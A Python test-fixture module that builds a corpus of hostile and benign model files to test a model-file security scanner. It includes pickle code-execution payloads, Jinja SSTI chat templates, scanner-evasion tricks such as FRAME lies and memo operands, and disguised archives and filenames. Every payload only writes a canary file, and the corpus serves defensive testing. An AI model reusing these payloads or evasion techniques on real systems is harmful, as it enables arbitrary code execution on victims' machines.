"""Builds the model-scan corpus: hostile samples by attack class, and a benign set made with real libraries.

Every hostile sample's payload only writes a canary file (``CANARY_DIR/<sample>``) if it is ever run;
nothing here or in the tests loads a sample in the test process. Samples are assembled opcode by opcode
(or with ``pickle.dumps`` of a ``__reduce__`` stand-in, which runs nothing when dumped), so the corpus
needs no torch, keras or onnx.

Run as a script to write the corpus to a directory: ``python -m tests.models.corpus OUT``.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np


@dataclass(frozen=True)
class Sample:
    """One model directory (or file) of the corpus."""

    cls: str
    name: str
    path: Path
    hostile: bool
    allowed: tuple[str, ...] = ("safetensors", "gguf", "onnx")


def _canary_code(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').write('ran')"


class _Reduce:
    """Pickles as ``func(*args)``; never called here."""

    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


def _u(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _s0(s: str) -> bytes:
    return b"S" + repr(s).encode() + b"\n"


def exec_payload(canary: Path, protocol: int = 2) -> bytes:
    import builtins

    return pickle.dumps(_Reduce(builtins.exec, (_canary_code(canary),)), protocol=protocol)


def proto0_exec(canary: Path) -> bytes:
    """``builtins.exec(code)`` as a protocol 0 pickle: text from its first byte to its last."""
    return b"c__builtin__\nexec\n(" + _s0(_canary_code(canary)) + b"tR."


def proto1_exec(canary: Path) -> bytes:
    return pickle.dumps(_Reduce(__import__("builtins").exec, (_canary_code(canary),)), protocol=1)


def stack_global_call(module: str, name: str, arg: str, *, proto: int = 4) -> bytes:
    return b"\x80" + bytes([proto]) + _u(module) + _u(name) + b"\x93" + _u(arg) + b"\x85R."


def frame_lie(canary: Path) -> bytes:
    """A FRAME shorter than the argument that starts in it.

    Read from ``io.BytesIO`` (torch's zip loader), CPython drops the rest of the frame and takes the
    argument from the bytes after it, then runs the call; read in sequence (``pickle.loads``, any reader
    that follows the bytes in order), the call is inside a byte string and nothing is imported.
    """
    payload = b"0" + _u("builtins") + _u("exec") + b"\x93" + _u(_canary_code(canary)) + b"\x85R."
    assert len(payload) + 2 < 256
    frame = b"\x8c\x20" + b"JUNKJ"  # SHORT_BINUNICODE of 32, with 5 of them left in the frame
    after = b"F" * 27 + b"0C" + bytes([2 + len(payload)]) + b"xx" + payload + b"0N."
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after


def _with_frame(body: bytes, declared: int) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", declared) + body


def _onnx_model(location: str) -> bytes:
    def varint(n: int) -> bytes:
        out = bytearray()
        while True:
            b = n & 0x7F
            n >>= 7
            out.append(b | (0x80 if n else 0))
            if not n:
                return bytes(out)

    def field(num: int, payload: bytes) -> bytes:
        return varint(num << 3 | 2) + varint(len(payload)) + payload

    entry = field(1, b"location") + field(2, location.encode())
    tensor = field(8, b"weight") + field(13, entry) + varint(14 << 3 | 0) + varint(1)
    graph = field(2, b"g") + field(5, tensor)
    return varint(1 << 3 | 0) + varint(8) + field(7, graph)


def _npy(descr: Any, body: bytes, version: int = 1) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": (1,)}).encode("latin1")
    header += b" " * ((64 - (len(header) + 11) % 64) % 64) + b"\n"
    if version == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(header)) + header + body


def _legacy_torch(fourth: bytes) -> bytes:
    """torch's non-zip format: magic, protocol, system info, the objects, the storage keys."""
    return (
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
        + fourth
        + pickle.dumps([], protocol=2)
        + b"\x00" * 64
    )


SSTI = {
    "concat-dunder": "{% set u='_'~'_' %}{{ namespace[u~'init'~u][u~'globals'~u]['os'].popen('CMD').read() }}",
    "dict-keyword": "{{ (dict(__globals__=1)|list)[0] }}{{ cycler.__init__[(dict(__globals__=1)|list)[0]] }}",
    "format-chars": "{% set u='%c%c'|format(95,95) %}{{ cycler[u~'init'~u][u~'globals'~u]['os'].popen('CMD') }}",
    "mro-walk": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('CMD', shell=True) }}{% endif %}{% endfor %}",
    "map-attribute": "{{ messages|map(attribute='__class__')|list }}",
    "attr-join": "{% set a=['_','_','class','_','_']|join %}{{ messages[0]|attr(a) }}",
    "in-loop": "{% for m in messages %}{% set k='_'*2~'class'~'_'*2 %}{{ m[k] }}{% endfor %}",
}


def _gguf(path: Path, template: str | None) -> Path:
    import gguf

    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("tiny")
    w.add_tensor("blk.0.weight", np.zeros((4, 32), dtype=np.float32))
    if template is not None:
        w.add_chat_template(template)
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    return path


def _safetensors(path: Path) -> Path:
    from safetensors.numpy import save_file

    save_file({"w": np.ones((4, 4), dtype=np.float32)}, str(path))
    return path


def _zip(path: Path, members: dict[str, bytes], *, encrypt: set[str] = frozenset()) -> Path:  # type: ignore[assignment]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    raw = bytearray(buf.getvalue())
    for name in encrypt:  # set the "encrypted" flag bit on the local and central headers
        enc = name.encode()
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = 0
            while (pos := raw.find(sig, pos)) >= 0:
                hdr_name_at = pos + (30 if sig == b"PK\x03\x04" else 46)
                if raw[hdr_name_at : hdr_name_at + len(enc)] == enc:
                    raw[pos + off] |= 1
                pos += 4
    path.write_bytes(bytes(raw))
    return path


WEIGHTS_ONLY = (
    b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x01\x00\x00\x00wq\x02ctorch._utils\n_rebuild_tensor_v2\n"
    b"q\x03(X\x01\x00\x00\x000ctorch\nFloatStorage\nq\x04K\x00K\x04\x85K\x01\x85\x89h\x00)Rtq\x05Rq\x06s."
)
"""What torch.save writes for a state dict of one tensor (hand-assembled: torch is not needed)."""


def _keras_function(canary: Path) -> dict[str, Any]:
    """A Lambda layer's function as Keras serializes it: base64 of the marshalled code object."""
    import base64
    import marshal

    def fn(x: Any) -> Any:
        return x

    code = compile(_canary_code(canary), "<lambda>", "exec")
    body = fn.__code__.replace(co_consts=(*fn.__code__.co_consts, code))
    return {
        "class_name": "__lambda__",
        "config": {"code": base64.b64encode(marshal.dumps(body)).decode(), "defaults": None, "closure": None},
    }


def _sevenzip(path: Path, members: dict[str, bytes]) -> Path:
    import py7zr

    with py7zr.SevenZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(data, name)
    return path


def _nemo(path: Path, data_pkl: bytes, *, gz: bool) -> Path:
    import tarfile

    ckpt = io.BytesIO()
    with zipfile.ZipFile(ckpt, "w") as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/data/0", b"\x00" * 16)
    with tarfile.open(path, "w:gz" if gz else "w") as tf:
        for name, blob in (
            ("model_config.yaml", b"target: nemo.collections.asr.models.EncDecCTCModel\n"),
            ("model_weights.ckpt", ckpt.getvalue()),
        ):
            info = tarfile.TarInfo(f"./{name}")
            info.size = len(blob)
            tf.addfile(info, io.BytesIO(blob))
    return path


def build(root: Path, canary_dir: Path) -> list[Sample]:
    """Write every sample under ``root``; a payload that runs writes ``canary_dir/<name>``."""
    samples: list[Sample] = []

    def d(
        cls: str, name: str, hostile: bool = True, allowed: tuple[str, ...] = ("safetensors", "gguf", "onnx")
    ) -> Path:
        p = root / cls / name
        p.mkdir(parents=True)
        samples.append(Sample(cls, name, p, hostile, allowed))
        return p

    def c(name: str) -> Path:
        return canary_dir / name

    # 1. a file hidden by naming it as ONNX external data
    for target, content in (
        ("pytorch_model.bin", lambda n: exec_payload(c(n))),
        ("model.gguf", None),
        ("tokenizer_config.json", None),
    ):
        name = f"onnx-hides-{target}"
        p = d("onnx-external-data", name)
        (p / "model.onnx").write_bytes(_onnx_model(target))
        if target == "model.gguf":
            _gguf(p / target, SSTI["mro-walk"].replace("CMD", f"touch {c(name)}"))
        elif target == "tokenizer_config.json":
            (p / target).write_text(
                json.dumps({"chat_template": SSTI["concat-dunder"].replace("CMD", f"touch {c(name)}")})
            )
        else:
            assert content is not None
            (p / target).write_bytes(content(name))

    # 2. the allowlist: what is not identified and allowed blocks
    for fname, maker in (
        ("word2vec.model", proto0_exec),
        ("pytorch_model", proto1_exec),
        ("weights.txt", proto0_exec),
        ("model.dill", lambda cc: exec_payload(cc, 4)),
        ("model.dat", proto1_exec),
    ):
        name = f"renamed-{fname}"
        (d("allowlist", name) / fname).write_bytes(maker(c(name)))
    name = "long-prefix-proto0"  # text to the header read, the import after it
    (d("allowlist", name) / "vocab.txt").write_bytes(
        b"(lp0\nS'"
        + b"a" * 8000
        + b"'\np1\na"
        + b"c__builtin__\nexec\n("
        + _s0(_canary_code(c(name)))
        + b"tR."
    )
    name = "npz-object"
    obj_npy = _npy("|O", exec_payload(c(name)))
    _zip(d("allowlist", name) / "arrays.npz", {"a.npy": obj_npy})
    name = "keras-lambda"
    cfg = {
        "class_name": "Functional",
        "config": {"layers": [{"class_name": "Lambda", "config": {"function": _keras_function(c(name))}}]},
    }
    _zip(
        d("allowlist", name) / "model.keras",
        {
            "metadata.json": b"{}",
            "config.json": json.dumps(cfg).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64,
        },
    )
    name = "sevenzip"
    _sevenzip(d("allowlist", name) / "model.7z", {"data.pkl": exec_payload(c(name))})
    name = "zip-no-pkl"
    _zip(d("allowlist", name) / "weights.zip", {"weights/blob": exec_payload(c(name))})
    (d("allowlist", "raw-bin") / "weights.bin").write_bytes(os.urandom(256))

    # 3. chat-template SSTI by ordinary Jinja obfuscation, in GGUF and tokenizer_config.json
    for key, tpl in SSTI.items():
        name = f"gguf-{key}"
        _gguf(d("ssti", name) / "model.gguf", tpl.replace("CMD", f"touch {c(name)}"))
        name = f"tokcfg-{key}"
        (d("ssti", name) / "tokenizer_config.json").write_text(
            json.dumps({"chat_template": tpl.replace("CMD", f"touch {c(name)}")})
        )

    # 4. pickle evasions (a site that allows pickles)
    allow_pickle = ("safetensors", "pickle", "numpy")
    call = _u("builtins") + _u("exec") + b"\x93"
    for name, declared in (("frame-short", 2), ("frame-zero", 0), ("frame-long", 1 << 20)):
        body = call + _u(_canary_code(c(name))) + b"\x85R."
        (d("pickle-evasion", name, allowed=allow_pickle) / "model.pkl").write_bytes(
            _with_frame(body, declared)
        )
    for name, where in (("frame-lie", "model.pkl"), ("frame-lie-torch-zip", "model.pt")):
        blob = frame_lie(c(name))
        target = d("pickle-evasion", name, allowed=allow_pickle) / where
        if where.endswith(".pt"):
            _zip(target, {"archive/data.pkl": blob, "archive/version": b"3\n"})
        else:
            target.write_bytes(blob)
    name = "stack-pop"  # the operands of STACK_GLOBAL are not the last two strings in the file
    (d("pickle-evasion", name, allowed=allow_pickle) / "model.pkl").write_bytes(
        b"\x80\x04"
        + _u("builtins")
        + _u("exec")
        + _u("junk")
        + b"0\x93"
        + _u(_canary_code(c(name)))
        + b"\x85R."
    )
    name = "memo-operands"
    (d("pickle-evasion", name, allowed=allow_pickle) / "model.pkl").write_bytes(
        b"\x80\x04"
        + _u("exec")
        + b"\x94"
        + _u("builtins")
        + b"\x940\x30h\x01h\x00\x93"
        + _u(_canary_code(c(name)))
        + b"\x85R."
    )
    name = "mark-operands"
    (d("pickle-evasion", name, allowed=allow_pickle) / "model.pkl").write_bytes(
        b"(" + _u("builtins") + _u("exec") + b"\x93" + _u(_canary_code(c(name))) + b"\x85R1N."
    )
    name = "legacy-torch-4th-proto0"
    (d("pickle-evasion", name, allowed=allow_pickle) / "model.pt").write_bytes(
        _legacy_torch(proto0_exec(c(name)))
    )
    for name, descr in (
        ("npy-object-word", "object"),
        ("npy-struct-object", [("a", "object")]),
        ("npy-subarray-O", ("O", (2,))),
        ("npy-dict-keys", {"aO": 0}),
    ):
        (d("pickle-evasion", name) / "arr.npy").write_bytes(_npy(descr, exec_payload(c(name))))
    name = "npy-v3-object"
    (d("pickle-evasion", name) / "arr.npy").write_bytes(_npy("O", exec_payload(c(name)), version=3))
    name = "pickle-after-junk"
    (d("pickle-evasion", name) / "weights.dat").write_bytes(b"JUNKHDR\x00" + exec_payload(c(name)))

    # 5./6. file system entries and archives that used to crash or pass silently
    name = "zip-encrypted"
    _zip(
        d("fs-entries", name) / "model.pt",
        {"archive/data.pkl": exec_payload(c(name))},
        encrypt={"archive/data.pkl"},
    )
    name = "symlink-out"
    outside = root / "_outside"
    outside.mkdir(exist_ok=True)
    (outside / f"{name}.bin").write_bytes(exec_payload(c(name)))
    p = d("fs-entries", name)
    _safetensors(p / "model.safetensors")
    (p / "pytorch_model.bin").symlink_to(outside / f"{name}.bin")
    p = d("fs-entries", "fifo")
    os.mkfifo(p / "model.safetensors")
    p = d("fs-entries", "undecodable-name")
    (p / os.fsdecode(b"\xff\xfe.bin")).write_bytes(exec_payload(c("undecodable-name")))
    p = d("fs-entries", "newline-name")
    (p / "a.bin\nCLEAN x: 0 findings").write_bytes(exec_payload(c("newline-name")))

    # the peers' published sample kinds: one call each, in the protocols attackers use
    import builtins
    import runpy
    import subprocess
    import webbrowser

    kinds: dict[str, Callable[[Path], bytes]] = {
        "os-system-p0": lambda cc: pickle.dumps(_Reduce(os.system, (f"touch {cc}",)), protocol=0),
        "os-system-p2": lambda cc: pickle.dumps(_Reduce(os.system, (f"touch {cc}",)), protocol=2),
        "os-system-p5": lambda cc: pickle.dumps(_Reduce(os.system, (f"touch {cc}",)), protocol=5),
        "eval-p4": lambda cc: pickle.dumps(_Reduce(builtins.eval, (_canary_code(cc),)), protocol=4),
        "subprocess-p3": lambda cc: pickle.dumps(_Reduce(subprocess.call, (["touch", str(cc)],)), protocol=3),
        "runpy-p2": lambda cc: pickle.dumps(_Reduce(runpy._run_code, (_canary_code(cc), {})), protocol=2),  # type: ignore[attr-defined]
        "webbrowser-p2": lambda cc: pickle.dumps(_Reduce(webbrowser.open, (f"file://{cc}",)), protocol=2),
        "getattr-chain": lambda cc: (
            b"\x80\x04"
            + _u("builtins")
            + _u("getattr")
            + b"\x93"
            + _u("builtins")
            + _u("__import__")
            + b"\x93"
            + _u("os")
            + b"\x85R"
            + _u("system")
            + b"\x86R"
            + _u(f"touch {cc}")
            + b"\x85R."
        ),
        "inst-p0": lambda cc: b"(" + _s0(_canary_code(cc)) + b"i__builtin__\nexec\n.",
        "obj-p1": lambda cc: b"(c__builtin__\nexec\n" + _s0(_canary_code(cc)) + b"o.",
        "newobj-p2": lambda cc: b"\x80\x02cbuiltins\nexec\n" + _s0(_canary_code(cc)) + b"\x85\x81.",
        "torch-zip": lambda cc: b"",
    }
    for kind, make in kinds.items():
        name = f"peer-{kind}"
        p = d("peer-kinds", name, allowed=("safetensors", "pickle"))
        if kind == "torch-zip":
            _zip(
                p / "model.pt",
                {
                    "archive/data.pkl": exec_payload(c(name)),
                    "archive/version": b"3\n",
                    "archive/data/0": b"\x00" * 16,
                },
            )
        else:
            (p / "model.pkl").write_bytes(make(c(name)))

    # archives: NeMo's .nemo is a tar holding a PyTorch zip checkpoint
    name = "nemo-evil"
    p = d("archives", name, allowed=("tar", "pickle"))
    _nemo(p / "model.nemo", exec_payload(c(name)), gz=True)
    name = "tar-pickle-not-allowed"
    p = d("archives", name, allowed=("tar",))
    _nemo(p / "model.nemo", WEIGHTS_ONLY, gz=False)

    # the benign set: real libraries, real shapes
    p = d("benign", "safetensors", hostile=False)
    _safetensors(p / "model.safetensors")
    (p / "config.json").write_text('{"architectures": ["Tiny"]}\n')
    p = d("benign", "gguf-templates", hostile=False)
    for i, tpl in enumerate(_real_templates()):
        _gguf(p / f"m{i}.gguf", tpl)
    p = d("benign", "state-dict-pickle", hostile=False, allowed=("pickle", "numpy"))
    state = OrderedDict((f"layer{i}.weight", np.arange(12, dtype=np.float32).reshape(3, 4)) for i in range(3))
    for proto in (2, 3, 4, 5):
        (p / f"state-p{proto}.pkl").write_bytes(pickle.dumps(state, protocol=proto))
    np.save(p / "a.npy", np.arange(10))
    np.savez(p / "b.npz", x=np.ones(3), y=np.zeros((2, 2)))
    p = d("benign", "nemo", hostile=False, allowed=("tar", "pickle"))
    _nemo(p / "model.nemo", WEIGHTS_ONLY, gz=False)
    p = d("benign", "tokenizer-config", hostile=False)
    for i, tpl in enumerate(_real_templates()):
        (p / f"t{i}").mkdir()
        (p / f"t{i}" / "tokenizer_config.json").write_text(json.dumps({"chat_template": tpl}))
    return samples


def _real_templates() -> list[str]:
    data = os.environ.get("EDGESEC_CONFORMANCE_DATA")
    if not data:
        return []
    return [p.read_text() for p in sorted((Path(data) / "chat-templates").glob("*.jinja"))]


if __name__ == "__main__":
    out = Path(sys.argv[1])
    for s in build(out / "corpus", out / "canaries"):
        print(s.cls, s.name, "hostile" if s.hostile else "benign")
